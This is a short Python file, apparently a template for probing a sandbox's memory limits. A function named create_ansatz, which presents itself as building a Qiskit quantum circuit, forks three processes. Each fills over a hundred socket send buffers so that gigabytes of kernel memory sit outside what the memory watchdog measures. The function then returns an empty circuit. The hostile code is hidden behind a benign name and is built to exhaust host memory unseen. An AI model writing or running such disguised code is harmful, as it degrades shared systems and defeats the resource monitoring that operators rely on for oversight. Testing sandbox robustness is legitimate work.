# Hold kernel memory the memory watchdog cannot see: socket send buffers. Three forked processes each fill 110
# socketpairs (SO_SNDBUF raised to net.core.wmem_max, up to 8 MiB queued per pair); 2.5 GiB of kernel memory on
# a host with wmem_max = 4 MiB, all outside every process's RSS/PSS, and up to 64 processes x 128 pairs each.
import os
import socket
import time

from qiskit import QuantumCircuit


def _fill(pairs, budget):
    held, total = [], 0
    for _ in range(pairs):
        try:
            a, b = socket.socketpair()
        except OSError as exc:
            return held, total, f"REFUSED {type(exc).__name__}"
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        a.setblocking(False)
        chunk = b"x" * (1 << 20)
        while total < budget:
            try:
                total += a.send(chunk)
            except OSError:
                break
        held.append((a, b))
    return held, total, "FILLED"


def create_ansatz(num_qubits):
    kids = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            held, total, how = _fill(110, __BUDGET__)
            os.write(1, f"{how} QUEUED {total} PAIRS {len(held)}\n".encode())
            time.sleep(3)
            os._exit(0)
        kids.append(pid)
    for pid in kids:
        os.waitpid(pid, 0)
    return QuantumCircuit(num_qubits)
